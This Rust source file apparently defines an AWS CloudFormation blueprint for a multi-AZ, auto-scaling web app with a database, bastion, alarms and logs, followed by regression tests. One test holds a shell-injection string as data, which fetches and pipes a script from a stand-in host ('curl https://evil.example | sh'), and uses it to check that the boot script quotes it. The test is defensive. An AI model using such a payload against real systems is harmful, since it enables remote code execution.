//! The SwiftCode blueprint: SwiftCode (a JVM web app) and Leto (a Django
//! app) on a multi-AZ, self-healing, auto-scaling architecture, as
//! described in the architecture note (network, NACLs, security groups,
//! launch template and Auto Scaling group behind an HTTPS load balancer,
//! DNS alias, alarms to an e-mail topic, Multi-AZ database, bastion).
//!
//! Written only against the public `hagen::` API, as a user's blueprint
//! would be. This crate is also the `hagen` binary (`src/main.rs`): hagen's
//! command line with SwiftCode as its built-in blueprint.

pub mod config;
mod leto;
mod parameters;
mod user_data;

use hagen::blueprint::{self, Blueprint};
use hagen::config::Environment;
use hagen::constructs::SubnetKind;
use hagen::constructs::alert_topic::{AlertTopic, AlertTopicProps};
use hagen::constructs::bastion::{Bastion, BastionProps};
use hagen::constructs::database::{Database, DatabaseProps, EnhancedMonitoring};
use hagen::constructs::dns::{AliasRecord, AliasRecordProps};
use hagen::constructs::load_balanced_asg::{AsgNetwork, LoadBalancedAsg, LoadBalancedAsgProps};
use hagen::constructs::log_bucket::{LogBucket, LogBucketProps};
use hagen::constructs::monitoring::{AppAlarms, AppAlarmsProps};
use hagen::constructs::nacl::{NetworkAcls, WebTiers};
use hagen::constructs::scaling::{
    CpuScaling, RequestCountTracking, Scaling, ScalingMode, ScalingProps,
};
use hagen::constructs::security_group::{Peer, SecurityGroup, Traffic};
use hagen::constructs::vpc::{Vpc, VpcProps};
use hagen::error::SynthError;
use hagen::resources::iam::role::Policy as InlinePolicy;
use hagen::resources::iam::{Role, aws_managed_policy_arn, policy_document, service_trust_policy};
use hagen::stack::Stack;
use hagen::template::fns::sub;
use hagen::template::{Attr, Expr, Output};

use config::SAFE_ADMIN_PREFIX;
pub use config::SwiftCodeConfig;
use hagen::config::BaseEnvironment;
pub use parameters::BastionAccess;

/// The SwiftCode blueprint. Stateless: everything it varies on comes from
/// the environment and its [`SwiftCodeConfig`].
pub struct SwiftCode;

/// SwiftCode's HTTP port (Play's default), the load balancer's target.
pub const SWIFTCODE_PORT: u16 = 9000;
/// Leto's HTTP port (gunicorn).
pub const LETO_PORT: u16 = 8000;
/// The database SwiftCode and Leto use.
pub const DATABASE_NAME: &str = "swiftcode";
/// Construct IDs, hence the prefixes of every logical ID. Never change
/// them: a renamed resource is a replaced resource.
/// Minutes SwiftCode's deploy monitors keep watching after CloudFormation
/// has deployed everything: two periods of the unhealthy-host alarm, so
/// instances that fail their health checks after the update still roll it
/// back.
pub const DEPLOY_MONITORING_MINUTES: u32 = 10;
const NETWORK: &str = "Network";
const APP: &str = "App";

fn output(
    stack: &mut Stack,
    id: &str,
    description: &str,
    value: impl Into<Expr>,
) -> Result<(), SynthError> {
    stack.output(
        id,
        Output {
            description: Some(description.into()),
            value: value.into(),
            export_name: None,
            condition: None,
        },
    )
}

/// Lets the instances read the database's master secret, and nothing else.
fn read_secret_policy(secret_arn: Attr<String>) -> InlinePolicy {
    let mut statement = hagen::template::IndexMap::new();
    statement.insert("Sid".to_owned(), Expr::string("ReadDatabaseSecret"));
    statement.insert("Effect".to_owned(), Expr::string("Allow"));
    statement.insert(
        "Action".to_owned(),
        Expr::List(vec![
            Expr::string("secretsmanager:GetSecretValue"),
            Expr::string("secretsmanager:DescribeSecret"),
        ]),
    );
    statement.insert("Resource".to_owned(), secret_arn.into());
    InlinePolicy::new(
        policy_document(vec![Expr::Map(statement)]),
        "ReadDatabaseSecret",
    )
}

impl Blueprint for SwiftCode {
    type Config = SwiftCodeConfig;

    fn name(&self) -> &str {
        "swiftcode"
    }

    fn description(&self) -> &str {
        "SwiftCode and Leto: a multi-AZ, self-healing, auto-scaling web application"
    }

    /// This crate is the `hagen` binary.
    fn command_name(&self) -> &str {
        "hagen"
    }

    fn about(&self) -> &str {
        "Typed Rust blueprints of highly available AWS architectures, compiled to validated CloudFormation"
    }

    fn version(&self) -> Option<&str> {
        Some(env!("CARGO_PKG_VERSION"))
    }

    fn build(&self, env: &Environment, config: &SwiftCodeConfig) -> Result<Stack, SynthError> {
        let mut stack = blueprint::new_stack(self, env);
        let params = parameters::declare(&mut stack, config)?;
        let db_port = config.database.engine.db_engine().default_port();
        record_weaker_choices(&mut stack, env, config);

        // Records: one private, encrypted bucket for flow and access logs,
        // when the environment keeps either.
        let logs = log_bucket(&mut stack, config)?;

        // 1. Network: public, private and isolated subnets in every AZ.
        // SwiftCode's subnet sizes are fixed, so a VPC the construct
        // refuses is one whose configured block is too small for them.
        let mut vpc = Vpc::new(
            &mut stack,
            NETWORK,
            VpcProps {
                cidr: config.vpc_cidr,
                az_count: usize::from(env.az_count),
                nat_gateways: config.nat.gateways(),
                flow_logs: logs.as_ref().and_then(LogBucket::flow_logs),
                ..VpcProps::default()
            },
        )
        .map_err(|e| match e {
            SynthError::InvalidProps { message, .. } => SynthError::config(
                "blueprint.vpc_cidr",
                message,
                format!(
                    "write a larger block (a shorter prefix), such as \"10.0.0.0/16\", in {}",
                    env.toml_table("blueprint.vpc_cidr")
                ),
            ),
            other => other,
        })?;

        // 2. Network ACLs per tier, consistent with the security groups below.
        NetworkAcls::web(
            &mut stack,
            "NetworkAcl",
            &vpc,
            &WebTiers {
                admin_cidr: params.admin_cidr.as_ref().map(|p| p.reference().into()),
                app_ports: vec![SWIFTCODE_PORT, LETO_PORT],
                db_port,
            },
        )?;

        // 3. Security groups: who may talk to whom.
        let groups = security_groups(&mut stack, &vpc, &params, db_port)?;

        // 8. Notifications: alarms and Auto Scaling events go to one topic.
        let alerts = AlertTopic::new(
            &mut stack,
            "Alerts",
            &AlertTopicProps {
                display_name: Some(format!("{} {} alerts", env.project, env.name)),
                ..AlertTopicProps::new(params.alert_email.reference())
            },
        )?;
        // A failing NAT gateway cuts the private subnets off the internet.
        vpc.add_nat_alarms(&mut stack, &alerts.topic)?;

        // 9. Database: Multi-AZ in the isolated subnets, managed password.
        let parts = Parts {
            env,
            config,
            params: &params,
            vpc: &vpc,
            groups: &groups,
            alerts: &alerts,
        };
        let db = database(&mut stack, &parts)?;

        // 4, 6. Compute behind the load balancer, SwiftCode and Leto.
        let mut app = application(&mut stack, &parts, &db, logs.as_ref())?;
        leto::serve(&mut stack, &mut app, LETO_PORT)?;

        // 5. Scaling: CPU step scaling by default, or request count tracking.
        let mode = match config.scaling {
            config::ScalingMode::Cpu => ScalingMode::Cpu(CpuScaling::new(alerts.topic.clone())),
            config::ScalingMode::Requests => ScalingMode::RequestCount(RequestCountTracking {
                requests_per_target: f64::from(config.requests_per_target),
                ..RequestCountTracking::new(
                    app.load_balancer.clone(),
                    app.target_group.clone(),
                    app.https_listener.clone(),
                )
            }),
        };
        Scaling::new(
            &mut stack,
            "AppScaling",
            &ScalingProps {
                auto_scaling_group: app.auto_scaling_group.clone(),
                mode,
            },
        )?;

        // 8. Alarms: 5xx and unhealthy hosts of every target (SwiftCode's
        // and Leto's), 5xx of the load balancer itself, CPU.
        let alarms = AppAlarms::new(
            &mut stack,
            "AppAlarms",
            &AppAlarmsProps::for_app(&app, alerts.topic.clone()),
        )?;
        // SwiftCode's own 5xx and unhealthy-host alarms watch every deploy:
        // an update that breaks the application rolls back by itself.
        stack.monitor_deploys(&alarms.target_5xx)?;
        stack.monitor_deploys(&alarms.unhealthy_hosts)?;
        stack.deploy_monitoring_minutes(DEPLOY_MONITORING_MINUTES)?;

        // 7. DNS: the domain is an alias of the load balancer.
        AliasRecord::new(
            &mut stack,
            "Site",
            &AliasRecordProps {
                hosted_zone_id: params.hosted_zone_id.reference().into(),
                domain_name: params.domain_name.reference().into(),
                target_dns_name: app.load_balancer.dns_name().into(),
                target_hosted_zone_id: app.load_balancer.canonical_hosted_zone_id().into(),
                ipv6: false,
            },
        )?;

        // 10. Bastion in the first public subnet, with a stable address.
        let bastion = bastion(&mut stack, &parts)?;

        // 11. Outputs.
        output(
            &mut stack,
            "SiteUrl",
            "The site",
            sub("https://${DomainName}"),
        )?;
        output(
            &mut stack,
            "LoadBalancerDnsName",
            "DNS name of the load balancer",
            app.load_balancer.dns_name(),
        )?;
        match bastion.public_ip() {
            Some(address) => output(
                &mut stack,
                "BastionAddress",
                "Public IPv4 address of the bastion (Elastic IP)",
                address,
            )?,
            None => output(
                &mut stack,
                "BastionInstanceId",
                "Instance ID of the bastion, for aws ssm start-session --target",
                bastion.instance_id(),
            )?,
        }
        output(
            &mut stack,
            "DatabaseEndpoint",
            "Host name of the database",
            db.endpoint_address(),
        )?;
        output(
            &mut stack,
            "AlertTopicArn",
            "SNS topic of alarms and Auto Scaling notifications",
            alerts.arn(),
        )?;
        Ok(stack)
    }
}

/// What the later steps of [`SwiftCode::build`] take from the earlier ones.
#[derive(Clone, Copy)]
struct Parts<'a> {
    env: &'a Environment,
    config: &'a SwiftCodeConfig,
    params: &'a parameters::Parameters,
    vpc: &'a Vpc,
    groups: &'a Groups,
    alerts: &'a AlertTopic,
}

/// The four security groups and the rules between them.
struct Groups {
    load_balancer: SecurityGroup,
    app: SecurityGroup,
    database: SecurityGroup,
    bastion: SecurityGroup,
}

/// Load balancer: 80 and 443 from anywhere. App: the app ports from the
/// load balancer only, 22 from the bastion only. Database: its port from the
/// app only. Bastion: 22 from the admin CIDR parameter. With Session Manager
/// access there is no SSH at all: no admin CIDR, and no key pair to use
/// from the bastion, so neither SSH rule is written.
fn security_groups(
    stack: &mut Stack,
    vpc: &Vpc,
    params: &parameters::Parameters,
    db_port: u16,
) -> Result<Groups, SynthError> {
    let lb_group = SecurityGroup::new(
        stack,
        "LoadBalancer",
        vpc,
        "Load balancer: HTTP and HTTPS from the internet",
    )?;
    let app_group = SecurityGroup::new(stack, APP, vpc, "SwiftCode and Leto instances")?;
    let db_group = SecurityGroup::new(stack, "Database", vpc, "Database: the app instances only")?;
    let bastion_description = match params.admin_cidr {
        Some(_) => "Bastion: SSH from the admin network",
        None => "Bastion: Session Manager only, nothing inbound",
    };
    let bastion_group = SecurityGroup::new(stack, "Bastion", vpc, bastion_description)?;
    // The load balancer's own paths (80 and 443 from users, the app ports
    // from it) are opened by `LoadBalancedAsg`, which knows them.
    if params.admin_cidr.is_some() {
        app_group.allow_from(
            stack,
            &Peer::group(&bastion_group),
            Traffic::tcp(22),
            "SSH from the bastion",
        )?;
    }
    db_group.allow_from(
        stack,
        &Peer::group(&app_group),
        Traffic::tcp(db_port),
        "Database from the app instances",
    )?;
    if let Some(admin_cidr) = &params.admin_cidr {
        bastion_group.allow_from(
            stack,
            &Peer::ipv4("Admin", admin_cidr.reference()),
            Traffic::tcp(22),
            "SSH from the admin network",
        )?;
    }

    Ok(Groups {
        load_balancer: lb_group,
        app: app_group,
        database: db_group,
        bastion: bastion_group,
    })
}

/// The Multi-AZ database in the isolated subnets, with Enhanced Monitoring.
fn database(stack: &mut Stack, parts: &Parts<'_>) -> Result<Database, SynthError> {
    let Parts {
        env,
        config,
        vpc,
        groups,
        alerts,
        ..
    } = *parts;
    let isolated: Vec<_> = vpc
        .subnets(SubnetKind::Isolated)
        .into_iter()
        .cloned()
        .collect();
    let mut db_props = DatabaseProps::new(
        &isolated,
        groups.database.handle().clone(),
        alerts.topic.clone(),
    );
    let db = &config.database;
    db_props.engine = db.engine.db_engine();
    db_props.instance_class = db.instance_class.clone();
    db_props.allocated_storage_gib = db.allocated_storage;
    db_props.max_allocated_storage_gib = Some(db.allocated_storage.saturating_mul(5));
    db_props.backup_retention_days = db.backup_retention_days;
    db_props.deletion_protection = env.deletion_protection;
    db_props.log_retention_days = Some(db.log_retention_days);
    db_props.database_name = Some(DATABASE_NAME.to_owned());
    let monitoring_role = stack.add(
        "DbMonitoringRole",
        Role::new(service_trust_policy("monitoring.rds.amazonaws.com"))
            .description("Lets RDS Enhanced Monitoring publish the database's OS metrics")
            .managed_policy_arns(vec![aws_managed_policy_arn(
                "service-role/AmazonRDSEnhancedMonitoringRole",
            )]),
    )?;
    db_props.enhanced_monitoring = Some(EnhancedMonitoring {
        role_arn: monitoring_role.arn().into(),
        interval_seconds: 60,
    });
    Database::new(stack, "Db", &db_props)
}

/// The launch template, Auto Scaling group and load balancer of SwiftCode
/// (Leto joins them in `leto::serve`). The boot script needs the load
/// balancer's DNS name: the construct hands its handle to the script.
fn application(
    stack: &mut Stack,
    parts: &Parts<'_>,
    db: &Database,
    logs: Option<&LogBucket>,
) -> Result<LoadBalancedAsg, SynthError> {
    let Parts {
        env,
        config,
        params,
        vpc,
        groups,
        alerts,
    } = *parts;
    let signal_resource = LoadBalancedAsg::group_logical_id(APP);
    let boot = user_data::BootScript {
        project: &env.project,
        environment: &env.name,
        db_engine: config.database.engine.db_engine().engine_name(),
        swiftcode_port: SWIFTCODE_PORT,
        leto_port: LETO_PORT,
        leto_path: leto::PATH,
        health_check_path: &config.health_check_path,
        signal_resource: config.cfn_signal.then_some(signal_resource.as_str()),
        database_address: db.endpoint_address(),
        database_port: db.endpoint_port(),
        database_secret_arn: db.secret_arn(),
    };
    let mut app_props = LoadBalancedAsgProps::new(
        AsgNetwork::from_vpc(vpc, &groups.load_balancer, &groups.app),
        params.image_id.reference(),
        params.certificate_arn.reference(),
        alerts.topic.clone(),
    );
    app_props.instance_type = config.instance_type.clone().into();
    app_props.user_data = Some(boot.user_data()?);
    app_props.key_name = params.key_name.as_ref().map(|k| k.reference().into());
    app_props.app_port = SWIFTCODE_PORT;
    app_props.app_name = "SwiftCode".to_owned();
    app_props.health_check.path = config.health_check_path.clone();
    app_props.capacity = config.capacity(env)?;
    app_props.deletion_protection = env.deletion_protection;
    app_props.rolling_update.wait_on_resource_signals = config.cfn_signal;
    app_props.inline_policies = vec![read_secret_policy(db.secret_arn())];
    app_props.access_logs = logs.and_then(LogBucket::access_logs);
    if config.cfn_signal {
        // Signals travel through the NAT: wait for every private route.
        for route in vpc.private_default_routes() {
            app_props = app_props.group_depends_on(route);
        }
    }
    LoadBalancedAsg::new(stack, APP, &app_props)
}

/// The bastion. With a key pair: in the first public subnet, with an
/// Elastic IP so that its address survives a replacement (a new bastion
/// image replaces it). With Session Manager only: in the first private
/// subnet, with no public address at all, once that subnet's NAT route
/// exists (the Systems Manager agent registers through it). Either way its
/// status checks alarm the topic.
fn bastion(stack: &mut Stack, parts: &Parts<'_>) -> Result<Bastion, SynthError> {
    let Parts {
        config,
        params,
        vpc,
        groups,
        alerts,
        ..
    } = *parts;
    let public = config.bastion_access == BastionAccess::KeyPair;
    let kind = if public {
        SubnetKind::Public
    } else {
        SubnetKind::Private
    };
    let subnet = vpc
        .subnets(kind)
        .first()
        .map(|s| (*s).clone())
        .ok_or_else(|| {
            SynthError::props(
                "SwiftCode",
                format!(
                    "the network has no {} subnet for the bastion",
                    kind.as_str()
                ),
            )
        })?;
    let mut bastion_props = BastionProps::new(
        params.bastion_image_id.reference(),
        subnet,
        groups.bastion.handle().clone(),
    );
    bastion_props.instance_type = config.bastion_instance_type.clone().into();
    bastion_props.key_name = params.key_name.as_ref().map(|k| k.reference().into());
    bastion_props.public_address = public;
    bastion_props.elastic_ip = public;
    bastion_props.alarm_topic = Some(alerts.topic.clone());
    let dependency = if public {
        vpc.gateway_attachment().map(|a| a.logical_id().to_owned())
    } else {
        vpc.private_default_routes()
            .first()
            .map(|r| r.logical_id().to_owned())
    };
    bastion_props.dependencies.extend(dependency);
    Bastion::new(stack, "Bastion", &bastion_props)
}

/// The log bucket, when the environment keeps flow logs or access logs.
fn log_bucket(
    stack: &mut Stack,
    config: &SwiftCodeConfig,
) -> Result<Option<LogBucket>, SynthError> {
    let logs = config.logs;
    if !logs.any() {
        return Ok(None);
    }
    let mut props = LogBucketProps::new(logs.retention_days);
    if logs.flow_logs {
        props = props.with_flow_logs();
    }
    if logs.access_logs {
        props = props.with_access_logs();
    }
    LogBucket::new(stack, "Logs", &props).map(Some)
}

/// Reports the configured choices weaker than SwiftCode's safe defaults, so
/// that none is silent: an admin range wider than a /16, and a production
/// environment without flow or access logs.
fn record_weaker_choices(stack: &mut Stack, env: &Environment, config: &SwiftCodeConfig) {
    let who = "SwiftCode";
    if config.bastion_access == BastionAccess::KeyPair
        && config.admin_cidr_min_prefix < SAFE_ADMIN_PREFIX
    {
        stack.record_override(
            who,
            format!(
                "AdminCidr accepts ranges as wide as a /{} (admin_cidr_min_prefix), wider than \
                 the /{SAFE_ADMIN_PREFIX} advised: more addresses may try SSH on the bastion",
                config.admin_cidr_min_prefix
            ),
        );
    }
    if env.base == BaseEnvironment::Prod {
        if !config.logs.flow_logs {
            stack.record_override(
                who,
                "VPC flow logs are off in a production environment (logs.flow_logs): \
                 after an incident there is no record of who talked to what",
            );
        }
        if !config.logs.access_logs {
            stack.record_override(
                who,
                "load balancer access logs are off in a production environment \
                 (logs.access_logs): after an incident there is no record of the requests",
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hagen::blueprint::Synthesis;
    use hagen::config::Config;
    use hagen::template::json::to_json_value;
    use serde_json::{Value as Json, json};
    use std::path::Path;

    /// `env` of the built-in configuration with `toml` on top.
    fn synth(toml: &str, env: &str) -> Synthesis {
        let config = Config::parse::<SwiftCodeConfig>(Path::new("hagen.toml"), toml)
            .expect("valid configuration");
        let resolved = blueprint::resolve(&SwiftCode, &config, Some(env)).expect("resolves");
        blueprint::synthesize(&SwiftCode, &resolved).expect("builds")
    }

    fn resources(s: &Synthesis) -> Json {
        to_json_value(&s.template.to_expr())["Resources"].clone()
    }

    /// Regression: a `health_check_path` of `"; curl ... | sh;` was pasted
    /// into the root boot script unquoted. `hagen.toml` refuses such a path
    /// now, but a library user can fill `Resolved::config` in without that
    /// check and synthesize; the template filter still makes the path one
    /// shell word, so the script asks curl for it and runs nothing.
    #[test]
    fn a_health_check_path_with_shell_syntax_is_quoted_when_validation_is_bypassed() {
        let config = Config::parse::<SwiftCodeConfig>(
            Path::new("hagen.toml"),
            "[environments.stage.blueprint]\ncfn_signal = true\n",
        )
        .expect("valid configuration");
        let mut resolved =
            blueprint::resolve(&SwiftCode, &config, Some("stage")).expect("resolves");
        let hostile = "/\"; touch /tmp/pwned; echo \"$(id)`id`'; curl https://evil.example | sh #";
        resolved.config.health_check_path = hostile.to_owned();
        let s = blueprint::synthesize(&SwiftCode, &resolved).expect("builds without the check");
        let r = resources(&s);
        let sub = &r["AppLaunchTemplate"]["Properties"]["LaunchTemplateData"]["UserData"]["Fn::Base64"]
            ["Fn::Sub"];
        let script = sub[0]
            .as_str()
            .or_else(|| sub.as_str())
            .expect("the boot script's text");
        let line = script
            .lines()
            .find(|l| l.starts_with("health_url="))
            .expect("the health probe's URL");
        // What the shell makes of that line: the URL, hostile path and all,
        // and nothing else printed or run.
        let out = std::process::Command::new("/bin/sh")
            .arg("-c")
            .arg(format!("{line}\nprintf '%s' \"$health_url\""))
            .output()
            .expect("/bin/sh runs");
        assert!(out.status.success(), "{out:?}");
        assert_eq!(
            String::from_utf8_lossy(&out.stdout),
            format!("http://127.0.0.1:{SWIFTCODE_PORT}{hostile}")
        );
        assert!(out.stderr.is_empty(), "{out:?}");
    }

    /// Regression: with `bastion_access = "session-manager"` the bastion
    /// kept a public IP and an Elastic IP, SSH stayed open from
    /// `AdminCidr`, and its checkov suppression claimed it needed a public
    /// address. Now it has no public address, and nothing speaks SSH.
    #[test]
    fn session_manager_bastion_has_no_public_address_ssh_or_admin_parameters() {
        let s = synth(
            "[environments.stage.blueprint]\nbastion_access = \"session-manager\"\n",
            "stage",
        );
        let t = &s.template;
        assert!(!t.parameters.contains_key("AdminCidr"));
        assert!(!t.parameters.contains_key("KeyName"));
        let r = resources(&s);
        let bastion = &r["BastionInstance"];
        let nic = &bastion["Properties"]["NetworkInterfaces"][0];
        assert_eq!(nic["AssociatePublicIpAddress"], false);
        assert_eq!(nic["SubnetId"], json!({"Ref": "NetworkPrivateSubnet1"}));
        assert!(bastion.get("Metadata").is_none(), "no CKV_AWS_88 skip");
        assert_eq!(bastion["DependsOn"], "NetworkPrivateDefaultRoute1");
        assert!(r.get("BastionEip").is_none());
        for (id, resource) in r.as_object().expect("resources") {
            let text = resource.to_string();
            assert!(!text.contains("AdminCidr"), "{id} still names AdminCidr");
            let ports = &resource["Properties"];
            assert!(
                !(ports["FromPort"] == 22 || ports["PortRange"]["From"] == 22),
                "{id} still opens port 22"
            );
        }
        assert!(t.outputs.contains_key("BastionInstanceId"));
        assert!(!t.outputs.contains_key("BastionAddress"));

        // By key pair, as before: public, an Elastic IP, SSH from AdminCidr.
        let s = synth("", "stage");
        let r = resources(&s);
        assert!(s.template.parameters.contains_key("AdminCidr"));
        assert!(r.get("BastionEip").is_some());
        assert!(r.get("BastionIngressTcp22FromAdmin").is_some());
        assert!(s.template.outputs.contains_key("BastionAddress"));
    }

    /// Regression: SwiftCode kept neither VPC flow logs nor the load
    /// balancer's access logs. Prod keeps both in its log bucket; stage
    /// keeps neither unless configured to.
    #[test]
    fn prod_keeps_flow_and_access_logs_and_stage_does_not_by_default() {
        let prod = synth("", "prod");
        let r = resources(&prod);
        assert_eq!(r["LogsBucket"]["Type"], "AWS::S3::Bucket");
        assert_eq!(
            r["NetworkFlowLog"]["Properties"]["LogDestination"],
            json!({"Fn::Sub": "${LogsBucket.Arn}/flow-logs/"})
        );
        let lb = &r["AppLoadBalancer"];
        assert!(lb.get("Metadata").is_none(), "no CKV_AWS_91 skip");
        assert!(
            lb["Properties"]["LoadBalancerAttributes"]
                .to_string()
                .contains("access_logs.s3.enabled")
        );
        assert!(prod.overrides.is_empty(), "{:?}", prod.overrides);

        let stage = synth("", "stage");
        let r = resources(&stage);
        assert!(r.get("LogsBucket").is_none() && r.get("NetworkFlowLog").is_none());
        assert_eq!(
            r["AppLoadBalancer"]["Metadata"]["checkov"]["skip"][0]["id"],
            "CKV_AWS_91"
        );

        let stage_flow = synth(
            "[environments.stage.blueprint.logs]\nflow_logs = true\n",
            "stage",
        );
        let r = resources(&stage_flow);
        assert!(r.get("NetworkFlowLog").is_some());
        assert!(
            !r["LogsBucketPolicy"]
                .to_string()
                .contains("logdelivery.elasticloadbalancing")
        );

        let quiet_prod = synth(
            "[environments.prod.blueprint.logs]\nflow_logs = false\naccess_logs = false\n",
            "prod",
        );
        let notices: Vec<&str> = quiet_prod
            .overrides
            .iter()
            .map(|o| o.message.as_str())
            .collect();
        assert_eq!(notices.len(), 2, "{notices:?}");
        assert!(notices[0].contains("flow logs are off") && notices[1].contains("access logs"));
    }

    /// Regression: only SwiftCode's own target was alarmed. Every alarm of
    /// the stack notifies the alert topic, and Leto, the load balancer, the
    /// database, the NAT gateways and the bastion each have theirs.
    #[test]
    fn every_part_has_alarms_and_every_alarm_notifies_the_topic() {
        let r = resources(&synth("", "prod"));
        let alarms: Vec<&String> = r
            .as_object()
            .expect("resources")
            .iter()
            .filter(|(_, v)| v["Type"] == "AWS::CloudWatch::Alarm")
            .map(|(k, _)| k)
            .collect();
        for expected in [
            "AppAlarmsLetoTarget5xxAlarm",
            "AppAlarmsLetoUnhealthyHostsAlarm",
            "AppAlarmsLoadBalancer5xxAlarm",
            "DbCpuAlarm",
            "DbFreeStorageAlarm",
            "DbFreeMemoryAlarm",
            "DbConnectionsAlarm",
            "NetworkNatGateway1PortAllocationAlarm",
            "NetworkNatGateway2PacketsDroppedAlarm",
            "BastionStatusCheckAlarm",
        ] {
            assert!(alarms.iter().any(|a| *a == expected), "no {expected}");
        }
        for alarm in alarms {
            assert!(
                r[alarm]["Properties"]["AlarmActions"]
                    .to_string()
                    .contains("AlertsTopic")
                    || alarm.starts_with("AppScaling"),
                "{alarm} notifies nobody"
            );
        }
    }
}
